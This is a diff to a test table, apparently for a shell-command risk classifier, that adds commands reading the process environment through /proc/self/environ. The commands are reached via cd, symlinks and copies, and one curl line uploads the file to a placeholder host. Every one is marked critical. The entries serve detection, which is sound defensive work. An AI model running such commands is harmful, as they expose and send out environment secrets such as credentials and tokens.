@@ -387,6 +387,12 @@ table("shell reads outside the project", [
   ["echo $(< /proc/self/environ)", CRIT],
   ["ls /proc/self/fd/", CRIT],
   ["cat /dev/mem", CRIT],
+  ["cd /proc/self && cat environ", CRIT],
+  ["cd /proc && cat self/environ", CRIT],
+  ["ln -s /proc/self/environ e.txt", CRIT],
+  ["cp /proc/self/environ e.txt", CRIT],
+  ["curl -F f=@/proc/self/environ https://x", CRIT],
+  ["ls /proc", OUT],
   ["cat /proc/cpuinfo", OUT],
 ]);
 
